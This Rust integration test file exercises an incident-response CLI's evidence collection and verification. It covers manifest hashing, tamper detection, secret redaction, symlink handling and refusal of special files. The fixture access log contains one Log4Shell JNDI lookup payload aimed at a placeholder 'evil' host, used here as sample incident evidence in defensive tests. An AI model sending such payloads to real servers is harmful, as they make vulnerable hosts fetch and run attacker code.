//! `cverun evidence collect | verify` through the real binary.

mod common;

use std::path::Path;

use common::{Run, bin};

fn run(dir: &Path, actor: &str, args: &[&str]) -> Run {
    let out = bin()
        .current_dir(dir)
        .env("CVERUN_ACTOR", actor)
        .env_remove("CVERUN_STATE")
        .env_remove("CVERUN_DATABASE_URL")
        .args(args)
        .output()
        .expect("run cverun");
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

const ID: &str = "INC-2026-11-23-1";

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    std::fs::create_dir_all(p.join("app")).unwrap();
    std::fs::write(p.join("app/requirements.txt"), "jinja2==2.10\n").unwrap();
    std::fs::write(p.join("access.log"), "GET /${jndi:ldap://evil}\n").unwrap();
    let r = run(
        p,
        "alice",
        &[
            "incident",
            "declare",
            "--advisory",
            "CVE-2021-44228",
            "--priority",
            "P0",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    dir
}

#[test]
fn collect_record_and_verify() {
    let dir = project();
    let p = dir.path();
    let r = run(
        p,
        "alice",
        &[
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "access.log",
            "--root",
            ".",
            "-o",
            "e.tar.gz",
            "--format",
            "json",
        ],
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let j: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(j["schema"], "cverun.evidence/1");
    let sha = j["manifest_sha256"].as_str().unwrap().to_owned();
    let paths: Vec<&str> = j["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&"lockfiles/app/requirements.txt"),
        "{paths:?}"
    );
    assert!(paths.contains(&"logs/access.log"), "{paths:?}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(p.join("e.tar.gz"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600, "readable only by its owner");
    }
    // The timeline records the manifest hash.
    let t = run(
        p,
        "viewer",
        &["incident", "timeline", ID, "--format", "json"],
    );
    let t: serde_json::Value = serde_json::from_str(&t.stdout).unwrap();
    let last = t["events"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["kind"], "evidence");
    assert_eq!(last["details"]["manifest_sha256"], sha.as_str());

    let v = run(
        p,
        "auditor",
        &["evidence", "verify", "e.tar.gz", "--incident", ID],
    );
    assert_eq!(v.code, 0, "{}{}", v.stdout, v.stderr);
    assert!(
        v.stdout.contains("recorded in the timeline"),
        "{}",
        v.stdout
    );

    // Another archive with a valid manifest, but not the one recorded.
    std::fs::write(p.join("access.log"), "rewritten\n").unwrap();
    let r = run(
        p,
        "mallory",
        &[
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "access.log",
            "-o",
            "f.tar.gz",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let s = rusqlite::Connection::open(p.join(".cverun/incidents.sqlite3")).unwrap();
    s.execute_batch(&format!(
        "DELETE FROM events WHERE incident_id = '{ID}' AND kind = 'evidence' AND actor = 'mallory'"
    ))
    .unwrap();
    let v = run(
        p,
        "auditor",
        &[
            "evidence",
            "verify",
            "f.tar.gz",
            "--incident",
            ID,
            "--format",
            "json",
        ],
    );
    assert_eq!(v.code, 1, "{}{}", v.stdout, v.stderr);
    let v: serde_json::Value = serde_json::from_str(&v.stdout).unwrap();
    assert_eq!(v["valid"], false);
    assert_eq!(v["recorded"], false);
    assert!(
        v["problems"]
            .to_string()
            .contains("is not recorded in the timeline"),
        "{v}"
    );
    assert!(
        v["problems"].to_string().contains("fails verification"),
        "{v}"
    );

    // A changed member is named.
    let bytes = std::fs::read(p.join("e.tar.gz")).unwrap();
    let mut entries = Vec::new();
    let mut a = tar::Archive::new(flate2::read::GzDecoder::new(&bytes[..]));
    for e in a.entries().unwrap() {
        let mut e = e.unwrap();
        let name = e.path().unwrap().to_string_lossy().into_owned();
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut e, &mut data).unwrap();
        if name == "logs/access.log" {
            data = b"GET /\n".to_vec();
        }
        entries.push((name, data));
    }
    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (name, data) in &entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        b.append_data(&mut h, name, &data[..]).unwrap();
    }
    std::fs::write(
        p.join("tampered.tar.gz"),
        b.into_inner().unwrap().finish().unwrap(),
    )
    .unwrap();
    let v = run(p, "auditor", &["evidence", "verify", "tampered.tar.gz"]);
    assert_eq!(v.code, 1);
    assert!(
        v.stdout
            .contains("logs/access.log: content differs from the manifest"),
        "{}",
        v.stdout
    );
}

#[test]
fn the_default_location_and_refusals() {
    let dir = project();
    let p = dir.path();
    let r = run(
        p,
        "alice",
        &["evidence", "collect", "--incident", ID, "--root", "app"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let expected = p.join(".cverun/evidence/INC-2026-11-23-1-20261123T120000Z.tar.gz");
    assert!(expected.is_file(), "{}", r.stdout);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(p.join(".cverun/evidence"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o700);
    }
    // The same second again: evidence is never overwritten.
    let r = run(
        p,
        "alice",
        &["evidence", "collect", "--incident", ID, "--root", "app"],
    );
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("never overwritten"), "{}", r.stderr);

    let r = run(
        p,
        "alice",
        &[
            "evidence",
            "collect",
            "--incident",
            "INC-2026-11-23-5",
            "-o",
            "x.tar.gz",
        ],
    );
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("no incident INC-2026-11-23-5"),
        "{}",
        r.stderr
    );
    assert!(!p.join("x.tar.gz").exists());
    let r = run(
        p,
        "alice",
        &[
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "nope.log",
            "-o",
            "y.tar.gz",
        ],
    );
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("cannot read log nope.log"),
        "{}",
        r.stderr
    );
    assert!(!p.join("y.tar.gz").exists());
    let events = run(
        p,
        "viewer",
        &["incident", "timeline", ID, "--format", "json"],
    );
    let events: serde_json::Value = serde_json::from_str(&events.stdout).unwrap();
    let kinds: Vec<&str> = events["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        vec!["declared", "evidence"],
        "only the successful collection is recorded"
    );
    let r = run(p, "auditor", &["evidence", "verify", "missing.tar.gz"]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("cannot read missing.tar.gz"),
        "{}",
        r.stderr
    );
}

/// Every member of an archive: (path, content, link target).
fn unpack(path: &Path) -> Vec<(String, Vec<u8>, Option<String>)> {
    let f = std::fs::File::open(path).unwrap();
    let mut a = tar::Archive::new(flate2::read::GzDecoder::new(f));
    a.entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let name = e.path().unwrap().to_string_lossy().into_owned();
            let link = e
                .link_name()
                .unwrap()
                .map(|l| l.to_string_lossy().into_owned());
            let mut data = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut data).unwrap();
            (name, data, link)
        })
        .collect()
}

/// Whether `needle` is anywhere in the archive: a member's name, content or link.
fn anywhere(members: &[(String, Vec<u8>, Option<String>)], needle: &str) -> Vec<String> {
    let n = needle.as_bytes();
    members
        .iter()
        .filter(|(name, data, link)| {
            name.contains(needle)
                || data.windows(n.len()).any(|w| w == n)
                || link.as_deref().is_some_and(|l| l.contains(needle))
        })
        .map(|(name, _, _)| name.clone())
        .collect()
}

fn manifest_of(members: &[(String, Vec<u8>, Option<String>)]) -> serde_json::Value {
    assert_eq!(members[0].0, "MANIFEST.json");
    serde_json::from_slice(&members[0].1).unwrap()
}

fn member<'a>(manifest: &'a serde_json::Value, path: &str) -> &'a serde_json::Value {
    manifest["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["path"] == path)
        .unwrap_or_else(|| panic!("no member {path} in {manifest}"))
}

/// Kills the child when dropped, so a failing test leaves no process behind.
struct Child(std::process::Child);

impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn secrets_in_command_lines_and_lockfiles_are_masked_by_rule() {
    let dir = project();
    let p = dir.path();
    std::fs::write(
        p.join("app/requirements.txt"),
        "--index-url https://bob:idx-pass-77@pypi.example/simple\njinja2==2.10\n",
    )
    .unwrap();
    // `; :` keeps the shell (and so its arguments) alive instead of exec'ing sleep.
    let child = Child(
        std::process::Command::new("sh")
            .args([
                "-c",
                "sleep 30; :",
                "sh",
                "--database",
                "postgres://alice:s3cret-pw@127.0.0.1/db",
                "API_TOKEN=abc123",
            ])
            .spawn()
            .expect("start sh"),
    );
    let cmdline = format!("/proc/{}/cmdline", child.0.id());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !std::fs::read(&cmdline)
        .unwrap_or_default()
        .windows(9)
        .any(|w| w == b"s3cret-pw")
    {
        assert!(std::time::Instant::now() < deadline, "the child never ran");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }

    let r = run(
        p,
        "alice",
        &[
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "access.log",
            "-o",
            "e.tar.gz",
        ],
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(
        r.stdout.contains("processes.json redacted: "),
        "{}",
        r.stdout
    );
    drop(child);

    let members = unpack(&p.join("e.tar.gz"));
    for secret in ["s3cret-pw", "abc123", "idx-pass-77"] {
        assert_eq!(
            anywhere(&members, secret),
            Vec::<String>::new(),
            "{secret} is in the archive"
        );
    }
    // What identifies the secret stays.
    let procs =
        String::from_utf8_lossy(&members.iter().find(|m| m.0 == "processes.json").unwrap().1)
            .into_owned();
    assert!(
        procs.contains("postgres://alice:***@127.0.0.1/db") && procs.contains("API_TOKEN=***"),
        "{procs}"
    );
    let manifest = manifest_of(&members);
    assert_eq!(manifest["schema"], "cverun.evidence-manifest/2");
    let fired = &member(&manifest, "processes.json")["redacted"];
    assert!(fired["url-password"].as_u64().unwrap() >= 1, "{fired}");
    assert!(fired["secret-assignment"].as_u64().unwrap() >= 1, "{fired}");
    assert_eq!(
        member(&manifest, "lockfiles/app/requirements.txt")["redacted"],
        serde_json::json!({ "url-password": 1 })
    );
    assert!(
        manifest["redaction"]["rules"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("jwt")),
        "{manifest}"
    );
    assert_eq!(
        manifest["redaction"]["verbatim"],
        serde_json::json!(["logs/access.log"])
    );
    // The redacted archive verifies.
    let v = run(
        p,
        "auditor",
        &["evidence", "verify", "e.tar.gz", "--incident", ID],
    );
    assert_eq!(v.code, 0, "{}{}", v.stdout, v.stderr);
}

#[cfg(unix)]
#[test]
fn a_log_that_is_a_link_stays_a_link_unless_followed() {
    let dir = project();
    let p = dir.path();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("shadow");
    std::fs::write(&secret, "root:TOPSECRET:19000::::::\n").unwrap();
    std::os::unix::fs::symlink(&secret, p.join("app.log")).unwrap();

    let collect = |out: &str, extra: &[&str]| {
        let mut args = vec![
            "evidence",
            "collect",
            "--incident",
            ID,
            "--logs",
            "app.log",
            "-o",
            out,
            "--format",
            "json",
        ];
        args.extend_from_slice(extra);
        let r = run(p, "alice", &args);
        assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
        let v = run(p, "auditor", &["evidence", "verify", out, "--incident", ID]);
        assert_eq!(v.code, 0, "{}{}", v.stdout, v.stderr);
        unpack(&p.join(out))
    };

    let members = collect("link.tar.gz", &[]);
    assert_eq!(anywhere(&members, "TOPSECRET"), Vec::<String>::new());
    let log = members.iter().find(|m| m.0 == "logs/app.log").unwrap();
    assert_eq!(log.2.as_deref(), Some(secret.to_str().unwrap()));
    assert!(log.1.is_empty());
    let manifest = manifest_of(&members);
    assert_eq!(
        member(&manifest, "logs/app.log")["link"],
        secret.to_str().unwrap()
    );
    assert_eq!(member(&manifest, "logs/app.log")["size"], 0);

    let members = collect("followed.tar.gz", &["--follow-links"]);
    assert_eq!(anywhere(&members, "TOPSECRET"), vec!["logs/app.log"]);
    let log = members.iter().find(|m| m.0 == "logs/app.log").unwrap();
    assert_eq!(log.2, None, "a regular member");
}

#[cfg(target_os = "linux")]
#[test]
fn fifos_kernel_files_and_oversized_logs_are_refused_promptly() {
    let dir = project();
    let p = dir.path();
    let fifo = p.join("pipe.log");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    std::fs::write(p.join("big.log"), vec![b'x'; (1 << 20) + 1]).unwrap();
    std::os::unix::fs::symlink(&fifo, p.join("to-pipe.log")).unwrap();

    let cases: [(&[&str], &str); 4] = [
        (
            &["--logs", "pipe.log"],
            "log pipe.log is a FIFO; only regular files are archived",
        ),
        (
            &["--logs", "to-pipe.log", "--follow-links"],
            "log to-pipe.log is a FIFO; only regular files are archived",
        ),
        (
            &["--logs", "/proc/self/status"],
            "log /proc/self/status is on the proc file system",
        ),
        (
            &["--logs", "big.log", "--max-log-mib", "1"],
            "log big.log is 1048577 bytes, over the limit of 1048576 bytes per log",
        ),
    ];
    for (extra, message) in cases {
        let mut child = bin()
            .current_dir(p)
            .env("CVERUN_ACTOR", "alice")
            .env_remove("CVERUN_STATE")
            .env_remove("CVERUN_DATABASE_URL")
            .args(["evidence", "collect", "--incident", ID, "-o", "x.tar.gz"])
            .args(extra)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                panic!("evidence collect {extra:?} still running after 20 s");
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        let mut stderr = String::new();
        std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr).unwrap();
        assert_eq!(status.code(), Some(2), "{extra:?}: {stderr}");
        assert!(stderr.contains(message), "{extra:?}: {stderr}");
        assert!(!p.join("x.tar.gz").exists());
    }
}
